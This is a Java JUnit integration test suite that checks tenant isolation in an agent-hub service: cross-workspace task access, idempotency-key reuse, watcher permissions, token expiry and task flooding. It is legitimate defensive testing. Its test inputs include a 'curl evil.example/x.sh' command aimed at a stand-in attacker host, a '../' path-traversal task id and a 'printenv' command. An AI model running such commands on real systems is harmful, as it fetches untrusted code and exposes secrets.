package dev.agenthub.agent;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.SignedJWT;
import dev.agenthub.agent.task.TaskTracker;
import dev.agenthub.broker.Broker;
import dev.agenthub.broker.Publication;
import dev.agenthub.contracts.codec.HubJson;
import dev.agenthub.gateway.GatewayServiceApplication;
import dev.agenthub.testsupport.SocketIoTestClient;
import dev.agenthub.testsupport.TestTokens;
import dev.agenthub.testsupport.WsTestClient;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.http.HttpMethod;
import reactor.core.Disposable;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Attacks of issue 11 on commands and tasks, against a real agent-service (PostgreSQL,
 * Redis) and gateway: a token's {@code exec} claim limits where its user may drive (items
 * 7); task ids are the hub's, a client's {@code taskId} only an idempotency key in its
 * workspace, and another workspace's task is 404 (item 11); a token without {@code exp}
 * is refused (item 6).
 */
class TenantIsolationIntegrationTests {

	static final Duration WAIT = Duration.ofSeconds(20);

	static AgentNode node;

	static ConfigurableApplicationContext gateway;

	static WsTestClient victimAgent;

	static WsTestClient attackerAgent;

	@BeforeAll
	static void start() {
		Map<String, Object> properties = AgentNode.clusterProperties();
		// small task shares, so that one workspace's flood of tasks can be tried on them
		properties.put("hub.agent.max-tracked-tasks", "12");
		properties.put("hub.agent.max-tracked-tasks-per-workspace", "4");
		node = AgentNode.start(properties);
		gateway = new SpringApplicationBuilder(GatewayServiceApplication.class)
			.properties("spring.main.banner-mode=off")
			.run("--server.port=0", "--hub.gateway.warm-up.connections=0", "--hub.engine=redis",
					"--hub.redis.url=" + properties.get("hub.redis.url"),
					"--hub.broker.key-prefix=" + properties.get("hub.broker.key-prefix"),
					"--hub.auth.jwt-secret=" + TestTokens.SECRET, "--hub.gateway.agent-service-url=" + node.url());
		victimAgent = agent("agent-acme", "acme");
		attackerAgent = agent("agent-evil", "evil");
	}

	static WsTestClient agent(String agentId, String workspace) {
		WsTestClient agent = WsTestClient.connect(node.agentUrl(TestTokens.agent(agentId, workspace)));
		agent.send("{\"type\":\"register\",\"data\":{\"workspaceId\":\"" + workspace + "\",\"version\":\"1.0.0\"}}");
		agent.awaitType("registered");
		return agent;
	}

	@AfterAll
	static void stop() {
		victimAgent.close();
		attackerAgent.close();
		gateway.close();
		node.close();
	}

	/**
	 * A user token with an {@code exec} claim (and an expiry unless {@code ttl} null).
	 */
	static String token(String subject, List<String> workspaces, List<String> exec, Duration ttl) {
		JWTClaimsSet.Builder claims = new JWTClaimsSet.Builder().subject(subject)
			.claim("roles", List.of("user"))
			.claim("workspaces", workspaces)
			.issueTime(new Date());
		if (exec != null) {
			claims.claim("exec", exec);
		}
		if (ttl != null) {
			claims.expirationTime(Date.from(Instant.now().plus(ttl)));
		}
		try {
			SignedJWT jwt = new SignedJWT(new JWSHeader(JWSAlgorithm.HS256), claims.build());
			jwt.sign(new MACSigner(TestTokens.SECRET.getBytes(StandardCharsets.UTF_8)));
			return jwt.serialize();
		}
		catch (JOSEException ex) {
			throw new IllegalStateException(ex);
		}
	}

	static Http command(String workspace, String token, String body) {
		return Http.post(node.url() + "/api/workspaces/" + workspace + "/commands", token, body);
	}

	@Test
	void shouldLetAWatcherSeeButNotRunCommandsOrCancelTasks() {
		String watcher = token("wendy", List.of("acme", "lab"), List.of("lab"), Duration.ofHours(1));
		Http refused = command("acme", watcher, "{\"command\":\"printenv\"}");
		assertThat(refused.status()).isEqualTo(403);
		assertThat(refused.body().get("code").asString()).isEqualTo("forbidden");
		String driver = TestTokens.user("dora", "acme");
		String taskId = command("acme", driver, "{\"command\":\"sleep\",\"args\":[\"60\"]}").body()
			.get("taskId")
			.asString();
		assertThat(Http.get(node.url() + "/api/tasks/" + taskId, watcher).status()).as("watching is allowed")
			.isEqualTo(200);
		Http cancel = Http.post(node.url() + "/api/tasks/" + taskId + "/cancel", watcher, null);
		assertThat(cancel.status()).isEqualTo(403);
		assertThat(cancel.body().get("code").asString()).isEqualTo("forbidden");
		assertThat(victimAgent.received().stream().noneMatch((m) -> m.path("type").asString().equals("cancel")))
			.isTrue();
	}

	@Test
	void shouldRefuseAWatchersCommandAtTheGateway() {
		String watcher = token("walt", List.of("acme", "lab"), List.of("lab"), Duration.ofHours(1));
		String port = gateway.getEnvironment().getProperty("local.server.port");
		try (WsTestClient browser = WsTestClient.authenticated("ws://localhost:" + port + "/ws?token=" + watcher)) {
			browser
				.send("{\"type\":\"command\",\"id\":5,\"data\":{\"workspaceId\":\"acme\",\"command\":\"printenv\"}}");
			JsonNode error = browser.await((m) -> m.path("id").asInt() == 5, WAIT);
			assertThat(error.get("type").asString()).isEqualTo("error");
			assertThat(error.get("data").get("code").asString()).isEqualTo("forbidden");
		}
		assertThat(victimAgent.received()
			.stream()
			.noneMatch((m) -> m.path("data").path("command").asString().equals("printenv"))).isTrue();
	}

	/**
	 * Another tenant cancels a task by its id: over the gateway's socket (raw and
	 * Socket.IO) it is the same {@code not_found} as a missing task; a member who may
	 * only watch the workspace gets {@code forbidden}. On agent-service itself, a service
	 * acting for that tenant cannot reach the task through another workspace's route nor
	 * through the route naming none. The victim's agent is never told to cancel it.
	 */
	@Test
	void shouldNotLetAnotherTenantCancelATaskOverTheGatewayOrOnItsBehalf() {
		String victimTask = command("acme", TestTokens.user("dora", "acme"),
				"{\"command\":\"sleep\",\"args\":[\"60\"]}")
			.body()
			.get("taskId")
			.asString();
		victimAgent.await((m) -> isCommandFor(m, victimTask), WAIT);
		String eve = TestTokens.user("eve", "evil");
		String watcher = token("wanda", List.of("acme", "lab"), List.of("lab"), Duration.ofHours(1));
		String port = gateway.getEnvironment().getProperty("local.server.port");
		try (WsTestClient attacker = WsTestClient.authenticated("ws://localhost:" + port + "/ws?token=" + eve);
				WsTestClient watching = WsTestClient.authenticated("ws://localhost:" + port + "/ws?token=" + watcher)) {
			attacker.send("{\"type\":\"cancel\",\"id\":1,\"data\":{\"taskId\":\"" + victimTask + "\"}}");
			JsonNode refused = attacker.await((m) -> m.path("id").asInt() == 1, WAIT);
			assertThat(refused.get("type").asString()).isEqualTo("error");
			assertThat(refused.get("data").get("code").asString()).isEqualTo("not_found");
			assertThat(refused.toString()).doesNotContain("acme");
			attacker
				.send("{\"type\":\"cancel\",\"id\":2,\"data\":{\"taskId\":\"00000000-0000-0000-0000-000000000000\"}}");
			JsonNode missing = attacker.await((m) -> m.path("id").asInt() == 2, WAIT);
			assertThat(missing.get("data").get("code").asString()).as("the same answer as a missing task")
				.isEqualTo("not_found");
			attacker.send("{\"type\":\"cancel\",\"id\":3,\"data\":{\"taskId\":\"../" + victimTask + "\"}}");
			assertThat(attacker.await((m) -> m.path("id").asInt() == 3, WAIT).get("data").get("code").asString())
				.isEqualTo("bad_request");
			watching.send("{\"type\":\"cancel\",\"id\":4,\"data\":{\"taskId\":\"" + victimTask + "\"}}");
			JsonNode watched = watching.await((m) -> m.path("id").asInt() == 4, WAIT);
			assertThat(watched.get("data").get("code").asString()).isEqualTo("forbidden");
		}
		try (SocketIoTestClient attacker = SocketIoTestClient.connect("ws://localhost:" + port, "/",
				HubJson.object().put("token", eve).put("subscribe", false), 65536)) {
			assertThat(attacker.connectReply().path("type").asString()).isEqualTo("connect");
			int ack = attacker.emitWithAck("cancel", HubJson.object().put("taskId", victimTask));
			assertThat(attacker.awaitAck(ack, WAIT).path("code").asString()).isEqualTo("not_found");
		}
		// agent-service: a service acting for eve, and eve herself
		Map<String, String> forEve = Map.of("X-Hub-On-Behalf-Of", "eve");
		String service = TestTokens.service("gateway-service");
		Http otherRoute = Http.call(HttpMethod.POST,
				node.url() + "/api/workspaces/evil/tasks/" + victimTask + "/cancel", service, null, forEve);
		assertThat(otherRoute.status()).isEqualTo(404);
		assertThat(otherRoute.body().toString()).doesNotContain("acme");
		Http unscoped = Http.call(HttpMethod.POST, node.url() + "/api/tasks/" + victimTask + "/cancel", service, null,
				forEve);
		assertThat(unscoped.status()).isEqualTo(400);
		assertThat(unscoped.body().get("error").asString()).contains("/api/workspaces/{workspaceId}/tasks/");
		assertThat(Http.post(node.url() + "/api/workspaces/evil/tasks/" + victimTask + "/cancel", eve, null).status())
			.isEqualTo(404);
		assertThat(Http.post(node.url() + "/api/workspaces/acme/tasks/" + victimTask + "/cancel", eve, null).status())
			.isEqualTo(403);
		await().during(Duration.ofMillis(500))
			.atMost(WAIT)
			.until(() -> victimAgent.received()
				.stream()
				.noneMatch((m) -> m.path("type").asString().equals("cancel")
						&& m.path("data").path("taskId").asString().equals(victimTask)));
		assertThat(Http.get(node.url() + "/api/tasks/" + victimTask, TestTokens.user("dora", "acme"))
			.body()
			.get("status")
			.asString()).isEqualTo("queued");
	}

	@Test
	void shouldGiveEachWorkspaceItsOwnTaskForTheSameClientTaskId() {
		Http victim = command("acme", TestTokens.user("vic", "acme"), "{\"command\":\"true\",\"taskId\":\"deploy\"}");
		assertThat(victim.status()).isEqualTo(202);
		String victimTask = victim.body().get("taskId").asString();
		assertThat(victimTask).isNotEqualTo("deploy");
		Http attacker = command("evil", TestTokens.user("eve", "evil"), "{\"command\":\"true\",\"taskId\":\"deploy\"}");
		assertThat(attacker.status()).isEqualTo(202);
		assertThat(attacker.body().get("duplicate").asBoolean()).isFalse();
		assertThat(attacker.body().get("taskId").asString()).isNotEqualTo(victimTask);
		Http repeat = command("acme", TestTokens.user("vic", "acme"), "{\"command\":\"true\",\"taskId\":\"deploy\"}");
		assertThat(repeat.body().get("duplicate").asBoolean()).isTrue();
		assertThat(repeat.body().get("taskId").asString()).isEqualTo(victimTask);
	}

	/**
	 * A member reuses another member's idempotency key for another command: before, the
	 * second command got a normal {@code ack} naming the first one's task (mallory's
	 * {@code curl}) and was never run; now it is refused with {@code conflict}, and only
	 * the same user repeating the same request is told it is a duplicate.
	 */
	@Test
	void shouldRefuseAnIdempotencyKeyReusedForAnotherRequest() {
		String port = gateway.getEnvironment().getProperty("local.server.port");
		String curl = "\"command\":\"curl\",\"args\":[\"evil.example/x.sh\"],\"taskId\":\"deploy-42\"";
		String make = "\"command\":\"make\",\"args\":[\"deploy\"],\"taskId\":\"deploy-42\"";
		try (WsTestClient mallory = WsTestClient
			.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("mallory", "acme"));
				WsTestClient victor = WsTestClient
					.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("victor", "acme"))) {
			mallory.send("{\"type\":\"command\",\"id\":1,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
			JsonNode first = mallory.await((m) -> m.path("id").asInt() == 1, WAIT);
			assertThat(first.get("type").asString()).isEqualTo("ack");
			assertThat(first.get("data").get("duplicate").asBoolean()).isFalse();
			assertThat(first.get("data").get("status").asString()).isEqualTo("queued");
			String curlTask = first.get("data").get("taskId").asString();
			victor.send("{\"type\":\"command\",\"id\":2,\"data\":{\"workspaceId\":\"acme\"," + make + "}}");
			JsonNode refused = victor.await((m) -> m.path("id").asInt() == 2, WAIT);
			assertThat(refused.get("type").asString()).as("victor's make must not be acked as mallory's curl")
				.isEqualTo("error");
			assertThat(refused.get("data").get("code").asString()).isEqualTo("conflict");
			assertThat(refused.toString()).doesNotContain(curlTask).doesNotContain("curl");
			// the same command under the key by another user: refused too
			victor.send("{\"type\":\"command\",\"id\":3,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
			assertThat(victor.await((m) -> m.path("id").asInt() == 3, WAIT).get("data").get("code").asString())
				.isEqualTo("conflict");
			// the same user repeating the same request: a duplicate, told apart
			mallory.send("{\"type\":\"command\",\"id\":4,\"data\":{\"workspaceId\":\"acme\"," + curl + "}}");
			JsonNode repeat = mallory.await((m) -> m.path("id").asInt() == 4, WAIT);
			assertThat(repeat.get("type").asString()).isEqualTo("ack");
			assertThat(repeat.get("data").get("taskId").asString()).isEqualTo(curlTask);
			assertThat(repeat.get("data").get("duplicate").asBoolean()).isTrue();
			assertThat(repeat.get("data").has("status")).isTrue();
		}
		String victor = TestTokens.user("victor", "acme");
		Http rest = command("acme", victor, "{" + make + "}");
		assertThat(rest.status()).isEqualTo(409);
		assertThat(rest.body().get("code").asString()).isEqualTo("conflict");
		// another environment value is another request (values are compared, never
		// stored)
		assertThat(command("acme", victor, "{\"command\":\"env\",\"env\":{\"A\":\"1\"},\"taskId\":\"env-1\"}").status())
			.isEqualTo(202);
		assertThat(command("acme", victor, "{\"command\":\"env\",\"env\":{\"A\":\"2\"},\"taskId\":\"env-1\"}").status())
			.isEqualTo(409);
		victimAgent.await((m) -> m.path("data").path("command").asString().equals("curl"), WAIT);
		assertThat(victimAgent.received()
			.stream()
			.filter((m) -> m.path("type").asString().equals("command"))
			.filter((m) -> m.path("data").path("command").asString().equals("curl"))
			.count()).as("mallory's curl was sent once").isEqualTo(1);
	}

	@Test
	void shouldRefuseAnAgentsEventThatNamesAnotherWorkspace() {
		// seed 000's browsers tell workspaces apart by the workspaceId in an event's
		// data:
		// an agent of evil must not speak for acme to a user who watches both
		attackerAgent.send("{\"type\":\"container:status\",\"id\":\"spoof-1\","
				+ "\"data\":{\"workspaceId\":\"acme\",\"containerStatus\":\"stopped\"}}");
		JsonNode reply = attackerAgent.await((m) -> "spoof-1".equals(m.path("id").asString()), WAIT);
		assertThat(reply.path("type").asString()).isEqualTo("error");
		assertThat(reply.path("data").path("code").asString()).isEqualTo("forbidden");
		attackerAgent.send("{\"type\":\"container:status\",\"id\":\"own-1\","
				+ "\"data\":{\"workspaceId\":\"evil\",\"containerStatus\":\"running\"}}");
		attackerAgent.send("{\"type\":\"ping\",\"id\":\"after-own-1\"}");
		attackerAgent.await((m) -> "after-own-1".equals(m.path("id").asString()), WAIT);
		assertThat(attackerAgent.received()).as("its own workspace's event is taken")
			.noneMatch((m) -> "own-1".equals(m.path("id").asString()));
	}

	@Test
	void shouldAnswerAnotherWorkspacesTaskLikeAMissingOne() {
		String victimTask = command("acme", TestTokens.user("vic", "acme"), "{\"command\":\"true\"}").body()
			.get("taskId")
			.asString();
		String eve = TestTokens.user("eve", "evil");
		Http probe = Http.get(node.url() + "/api/tasks/" + victimTask, eve);
		Http missing = Http.get(node.url() + "/api/tasks/00000000-0000-0000-0000-000000000000", eve);
		assertThat(probe.status()).isEqualTo(404).isEqualTo(missing.status());
		assertThat(probe.body().get("code").asString()).isEqualTo("not_found");
		assertThat(probe.body().toString()).doesNotContain("acme");
		Http cancel = Http.post(node.url() + "/api/tasks/" + victimTask + "/cancel", eve, null);
		assertThat(cancel.status()).isEqualTo(404);
		assertThat(cancel.body().toString()).doesNotContain("acme");
	}

	@Test
	void shouldRecordARepositoryChannelsFirstOwnerAndNeverMoveIt() {
		String url = node.url() + "/api/channels/repository:acme-web/owner";
		Http first = Http.call(HttpMethod.PUT, url, TestTokens.service("publisher"), "{\"workspaceId\":\"acme\"}");
		assertThat(first.status()).isEqualTo(200);
		Http steal = Http.call(HttpMethod.PUT, url, TestTokens.service("publisher"), "{\"workspaceId\":\"evil\"}");
		assertThat(steal.status()).isEqualTo(409);
		assertThat(steal.body().toString()).doesNotContain("acme\"");
		assertThat(
				Http.call(HttpMethod.PUT, url, TestTokens.user("eve", "evil"), "{\"workspaceId\":\"evil\"}").status())
			.isEqualTo(403);
		assertThat(Http.get(url, TestTokens.service("gateway")).body().get("workspaceId").asString()).isEqualTo("acme");
		assertThat(Http.get(node.url() + "/api/channels/conversation:unknown/owner", TestTokens.service("gateway"))
			.status()).isEqualTo(404);
		String port = gateway.getEnvironment().getProperty("local.server.port");
		try (WsTestClient member = WsTestClient
			.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("ann", "acme"));
				WsTestClient outsider = WsTestClient
					.authenticated("ws://localhost:" + port + "/ws?token=" + TestTokens.user("eve", "evil"))) {
			member.send("{\"type\":\"subscribe\",\"id\":1,\"data\":{\"channel\":\"repository:acme-web\"}}");
			assertThat(member.await((m) -> m.path("id").asInt() == 1, WAIT).get("type").asString())
				.isEqualTo("subscribed");
			outsider.send("{\"type\":\"subscribe\",\"id\":2,\"data\":{\"channel\":\"repository:acme-web\"}}");
			JsonNode refused = outsider.await((m) -> m.path("id").asInt() == 2, WAIT);
			assertThat(refused.get("data").get("code").asString()).isEqualTo("forbidden");
			member.send("{\"type\":\"subscribe\",\"id\":3,\"data\":{\"channel\":\"conversation:unowned\"}}");
			assertThat(member.await((m) -> m.path("id").asInt() == 3, WAIT).get("data").get("code").asString())
				.as("no recorded owner: admins only")
				.isEqualTo("forbidden");
		}
	}

	/**
	 * A workspace starting tasks without end fills only its own share of the tasks a node
	 * tracks: before, the node forgot its oldest task of any workspace to make room, and
	 * the output another workspace's agent reported for a task forgotten that way then
	 * overwrote what the task had written before (its tail restarted empty).
	 */
	@Test
	void shouldNotLetOneWorkspacesTasksPushAnothersOut() {
		String taskId = command("acme", TestTokens.user("dora", "acme"), "{\"command\":\"make\"}").body()
			.get("taskId")
			.asString();
		victimAgent.await((m) -> isCommandFor(m, taskId), WAIT);
		List<Publication> seen = new CopyOnWriteArrayList<>();
		Disposable watching = node.bean(Broker.class).subscribe("task:" + taskId, seen::add).block(WAIT);
		try {
			report(victimAgent, taskId, "status", "\"status\":\"running\"");
			report(victimAgent, taskId, "output", "\"output\":\"part-1;\"");
			await().atMost(WAIT)
				.until(() -> seen.stream().anyMatch((p) -> p.event().data().toString().contains("part-1;")));
			String mallory = TestTokens.user("mallory", "evil");
			for (int i = 0; i < 20; i++) {
				String attack = command("evil", mallory, "{\"command\":\"true\"}").body().get("taskId").asString();
				attackerAgent.await((m) -> isCommandFor(m, attack), WAIT);
			}
			// 20 tasks more than the node tracks in all: before, they pushed the victim's
			// out
			report(victimAgent, taskId, "output", "\"output\":\"part-2;\"");
			report(victimAgent, taskId, "status", "\"status\":\"completed\",\"exitCode\":0");
			await().atMost(WAIT)
				.until(() -> Http.get(node.url() + "/api/tasks/" + taskId, TestTokens.user("dora", "acme"))
					.body()
					.path("status")
					.asString()
					.equals("completed"));
			assertThat(taskOutput(taskId)).isEqualTo("part-1;part-2;");
			// output reported for the task after its end is not stored over what it ended
			// with
			report(victimAgent, taskId, "output", "\"output\":\"late\"");
			await().atMost(WAIT)
				.until(() -> seen.stream().anyMatch((p) -> p.event().data().toString().contains("late")));
			node.bean(TaskTracker.class).flush(Instant.now()).block(WAIT);
			assertThat(taskOutput(taskId)).isEqualTo("part-1;part-2;");
		}
		finally {
			watching.dispose();
		}
	}

	static boolean isCommandFor(JsonNode message, String taskId) {
		return message.path("type").asString().equals("command")
				&& message.path("data").path("taskId").asString().equals(taskId);
	}

	static void report(WsTestClient agent, String taskId, String type, String fields) {
		agent.send("{\"type\":\"" + type + "\",\"data\":{\"taskId\":\"" + taskId + "\"," + fields + "}}");
	}

	static String taskOutput(String taskId) {
		return Http.get(node.url() + "/api/tasks/" + taskId, TestTokens.user("dora", "acme"))
			.body()
			.path("output")
			.asString();
	}

	@Test
	void shouldRefuseATokenWithoutExpiry() {
		String forever = token("ivy", List.of("acme"), null, null);
		Http reply = Http.get(node.url() + "/api/workspaces/acme/agent", forever);
		assertThat(reply.status()).isEqualTo(401);
		assertThat(reply.body().toString()).contains("exp");
		String port = gateway.getEnvironment().getProperty("local.server.port");
		try (WsTestClient browser = WsTestClient.connect("ws://localhost:" + port + "/ws?token=" + forever)) {
			assertThat(browser.awaitClose(WAIT)).isEqualTo(4001);
		}
	}

}
